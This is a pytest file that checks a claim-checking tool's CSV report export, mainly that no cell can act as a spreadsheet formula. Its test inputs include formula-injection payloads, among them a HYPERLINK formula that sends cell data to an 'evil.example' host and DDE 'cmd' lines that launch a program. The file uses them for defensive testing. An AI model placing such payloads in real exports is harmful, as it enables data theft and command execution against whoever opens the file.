"""Findings as rows: what a spreadsheet reads, and that nothing in it is a formula."""

import csv
import io
import re

import pytest

from claimcheck.records import Decision, Report
from claimcheck.report.csv import COLUMNS, LONGEST_CELL, render_csv
from tests import samples

FORMULA = re.compile(r"\s*[=+\-@|%＝＋－＠]")


def rows(report: Report) -> list[dict[str, str]]:
    text = render_csv(report)
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def with_text(text: str) -> Report:
    """One finding whose articles and claims say `text` wherever they can."""
    claims = tuple(
        samples.CLAIMS[name].model_copy(update={"quote": text, "text": text, "speaker": text})
        for name in ("hurt_en", "hurt_de")
    )
    articles = tuple(
        article.model_copy(update={"title": text, "outlet": text, "author": text, "date": text, "path": text})
        for article in samples.ARTICLES.values()
    )
    finding = samples.FINDINGS["hurt"].model_copy(update={"reason": text, "kind": text})
    decision = Decision(id=finding.id, status="accepted", reason=text, who=text)
    return samples.report(articles=articles, claims=claims, findings=(finding,), topics=(), decisions=(decision,))


def test_form() -> None:
    data = render_csv(samples.report()).encode("utf-8")
    assert data.startswith(b'\xef\xbb\xbf"id","label"')
    assert data.endswith(b'"\r\n')
    assert data.count(b"\r\n") == data.count(b"\n") == 1 + len(samples.FINDINGS)


def test_rows() -> None:
    found = rows(samples.report())
    assert [row["label"] for row in found] == ["conflict"] * 3 + ["update"] + ["agreement"] * 2
    first = found[0]
    assert list(first) == list(COLUMNS)
    assert first["id"] == samples.FINDINGS["hurt"].id
    assert (first["score"], first["possible"], first["status"]) == ("0.93", "false", "new")
    assert first["a_quote"] == "At least 42 passengers were injured"
    assert first["b_claim"] == "36 Fahrgäste wurden verletzt"
    assert (first["a_path"], first["a_line"]) == ("articles/harbour-post/ferry-fire.md", "3")
    assert first["b_published"] == "2026-03-15T07:30:00+01:00"


def test_decisions_stand_beside_their_findings() -> None:
    finding = samples.FINDINGS["hurt"].id
    decision = Decision(id=finding, status="accepted", reason="Two days.", who="Ada", expires="2027-01-31")
    found = {row["id"]: row for row in rows(samples.report(decisions=(decision,)))}
    row = found[finding]
    assert (row["status"], row["decision_reason"], row["decided_by"], row["expires"]) == (
        "accepted",
        "Two days.",
        "Ada",
        "2027-01-31",
    )


def test_the_earlier_side_is_a() -> None:
    row = next(row for row in rows(samples.report()) if row["label"] == "update")
    assert row["a_published"] < row["b_published"]


@pytest.mark.parametrize("report", [samples.empty(), samples.one_article(), samples.no_claims()])
def test_always_a_header(report: Report) -> None:
    text = render_csv(report)
    assert next(csv.reader([text.removeprefix("\ufeff")])) == list(COLUMNS)
    assert text.count("\r\n") == 1


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("https://evil.example?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
        "|calc",
        "%0A=1",
    ],
)
def test_no_cell_is_a_formula(attack: str) -> None:
    (row,) = rows(with_text(attack))
    cells = [value for name, value in row.items() if name not in ("a_url", "b_url")]
    assert not any(FORMULA.match(cell) for cell in cells)
    assert row["a_quote"] == "'" + re.sub(r"^([\t\r\n])(?==)", r"\1'", attack)


@pytest.mark.parametrize(
    "attack", ["x;=1+1", 'x";"=1+1', "x\n=1+1", 'x\r\n"=1+1', "x\t@SUM(1)", "a; -1+cmd|' /C calc'!A0"]
)
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_no_other_separator_makes_a_cell_that_is_a_formula(attack: str, separator: str) -> None:
    """Where the list separator is a semicolon or a tab, quotes in the middle of a cell mean nothing."""
    text = render_csv(with_text(attack)).removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    assert not any(FORMULA.match(cell.lstrip('"')) for cell in cells)


@pytest.mark.parametrize("text", ["plain", "5 = 5", "a-b; c", 'said "no", twice', "two\nlines", "Вогонь", "– said Ann"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    (row,) = rows(with_text(text))
    assert (row["a_quote"], row["b_speaker"], row["decision_reason"]) == (text, text, text)


def test_hostile_articles() -> None:
    report = samples.hostile()
    text = render_csv(report)
    text.encode("utf-8")
    assert "\x00" not in text and "\x1b" not in text
    found = rows(report)
    assert len(found) == len(report.findings)
    assert max(len(cell) for row in found for cell in row.values()) <= LONGEST_CELL + 1
    assert all("javascript:" not in row["a_url"] for row in found)
